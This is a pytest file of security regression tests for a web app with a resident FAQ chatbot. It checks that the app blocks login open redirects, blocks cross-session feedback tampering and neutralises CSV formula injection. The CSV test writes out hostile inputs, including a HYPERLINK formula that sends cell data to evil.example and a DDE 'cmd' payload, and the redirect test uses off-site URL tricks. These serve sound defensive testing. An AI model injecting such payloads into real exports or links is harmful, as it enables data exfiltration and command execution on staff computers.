"""Security review regressions — real HTTP through the app."""
from __future__ import annotations

import pytest

from tests.conftest import web_login


@pytest.mark.parametrize("evil", ["/\\evil.example/", "/\\/evil.example", "/\t/evil.example",
                                  "/\n/evil.example"])
def test_login_next_does_not_redirect_off_site(client, make_user, evil):
    # Browsers read "/\evil.example" as "//evil.example" and drop tabs/newlines from URLs,
    # so these would send a freshly logged-in staff member to another host.
    user = make_user("clerk")
    r = web_login(client, user.username, next_url=evil)
    assert r.status_code == 303
    assert r.headers["location"] == "/minutes"


def test_login_next_keeps_local_paths(client, make_user):
    user = make_user("clerk")
    r = web_login(client, user.username, next_url="/minutes/3?x=1")
    assert r.headers["location"] == "/minutes/3?x=1"


def test_feedback_cannot_attach_to_another_residents_question(client, db, settings):
    # A resident's feedback may point at a log entry only from the same chat session; leaving
    # session_id empty must not let anyone mark other residents' questions as unhelpful.
    import sys
    from pathlib import Path
    sys.path.insert(0, str(Path(__file__).parent))
    from chatbot import storage
    from test_chat_support import load_small, small_calibration

    load_small(db, settings)
    storage.save_calibration(db, small_calibration().to_dict(), source="test")
    d = client.post("/api/chat/ask", json={"message": "粗大ゴミの出し方", "session_id": "victim"}).json()
    for other in ("", "attacker"):
        r = client.post("/api/chat/feedback", json={"session_id": other, "faq_id": d["faq_id"],
                                                    "helpful": False, "log_id": d["log_id"]})
        assert r.status_code == 200, r.text
    linked = db.conn.execute("SELECT count(*) FROM chat_feedback WHERE log_id = ?",
                             (d["log_id"],)).fetchone()[0]
    assert linked == 0
    r = client.post("/api/chat/feedback", json={"session_id": "victim", "faq_id": d["faq_id"],
                                                "helpful": False, "log_id": d["log_id"]})
    assert db.conn.execute("SELECT count(*) FROM chat_feedback WHERE log_id = ?",
                           (d["log_id"],)).fetchone()[0] == 1


def test_chat_log_csv_neutralizes_spreadsheet_formulas(client, db, settings, login_as):
    # Residents write the question log; staff open log.csv in Excel. A question that starts
    # with = + - @ must not become a live formula there (CSV injection).
    import csv
    import io
    import sys
    from pathlib import Path
    sys.path.insert(0, str(Path(__file__).parent))
    from chatbot import storage
    from test_chat_support import load_small, small_calibration

    load_small(db, settings)
    storage.save_calibration(db, small_calibration().to_dict(), source="test")
    evil = ['=HYPERLINK("http://evil.example/?"&A1,"詳細")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1", "-2+3"]
    for i, m in enumerate(evil):
        r = client.post("/api/chat/ask", json={"message": m, "session_id": f"=s{i}"})
        assert r.status_code == 200, r.text
    text = client.get("/api/chat/admin/log.csv", headers=login_as("admin")).content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(evil)
    for row in rows:
        for key, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (key, value)
    assert rows[0]["message"].lstrip("'").startswith("=HYPERLINK")
